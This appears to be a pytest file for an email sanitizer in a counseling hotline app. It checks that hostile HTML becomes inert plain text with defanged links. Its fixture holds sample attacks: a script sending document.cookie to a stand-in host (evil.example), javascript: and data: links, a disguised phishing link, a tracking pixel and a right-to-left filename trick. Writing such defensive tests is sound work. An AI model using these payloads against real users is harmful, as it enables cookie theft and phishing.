"""Hostile HTML mail made safe for a counselor's screen: plain text, inert links, no images, no tricks."""

from __future__ import annotations

import pytest

from hotline.privacy.sanitize import defang, html_for_display, text_for_display

HOSTILE = """<html><head><title>t</title><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/r"><style>body{background:url(http://evil.example/css)}</style>
<script>fetch('http://evil.example/steal?'+document.cookie)</script></head>
<body onload="alert(1)"><p>您好，<b>我需要幫忙</b>。</p>
<img src="http://tracker.example/pixel.gif?id=42" width=1 height=1>
<img src="cid:logo" alt="公司 標誌">
<p><a href="http://evil.example/phish">https://www.gov.tw/login</a></p>
<p><a href="javascript:alert(document.cookie)">點我</a> <a href="data:text/html;base64,PHNjcmlwdD4=">看看</a></p>
<p><a href="https://www.mohw.gov.tw/">https://www.mohw.gov.tw/</a> <a href="mailto:eap@example.org">eap@example.org</a></p>
<iframe src="http://evil.example/frame">inside frame</iframe><svg onload="x()"><text>svg text</text></svg>
<p>&lt;script&gt;alert(1)&lt;/script&gt; invoice\u202egnp.exe</p>
<!-- <script>hidden()</script> --><noscript><img src="http://evil.example/ns"></noscript>
<p onclick="x()" style="display:none">隱藏的字</p><table><tr><td>a</td><td>b</td></tr></table>
<div><a href="http://example.org/a">unclosed link<div>next</div>"""


def test_hostile_html_becomes_inert_plain_text() -> None:
    out = html_for_display(HOSTILE)
    assert "您好，我需要幫忙。" in out
    for gone in ("<b>", "<p", "<img", "fetch(", "cookie", "onload", "tracker.example", "pixel", "evil.example",
                 "inside frame", "svg text", "alert(document", "base64", "\u202e", "refresh"):  # fmt: skip
        assert gone not in out, (gone, out)
    assert "[圖片]" in out and "[圖片：公司 標誌]" in out
    assert "hxxps://www[.]gov[.]tw/login（連結：hxxp://evil[.]example/phish）" in out
    assert "點我（連結已移除）" in out and "看看（連結已移除）" in out
    assert "hxxps://www[.]mohw[.]gov[.]tw/" in out and "（連結：" not in out.split("mohw")[1].split("\n")[0]
    assert "eap@example.org" in out and "mailto" not in out
    assert "<script>alert(1)</script> invoice" in out  # what the sender wrote as text, shown as text
    assert "invoicegnp.exe" in out
    assert "a b" in out and "unclosed link" in out and "next" in out


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://a.example/x.y?q=1", "hxxps://a[.]example/x.y?q=1"),
        ("HTTP://A.EXAMPLE", "HxxP://A[.]EXAMPLE"),
        ("ftp://files.example/f", "ftp://files[.]example/f"),
        ("www.example.org/p", "www[.]example[.]org/p"),
    ],
)
def test_defang(url: str, expected: str) -> None:
    assert defang(url) == expected


def test_plain_text_bodies_too() -> None:
    text = "請看 https://bit.ly/x 或 www.example.org\u200b。\x07\n第二行\tTab"
    assert text_for_display(text) == "請看 hxxps://bit[.]ly/x 或 www[.]example[.]org。\n第二行\tTab"


def test_total_on_garbage() -> None:
    assert html_for_display("<a href='x'><<<>>>&#xZZZ;<img/src=") is not None
    assert html_for_display("") == ""
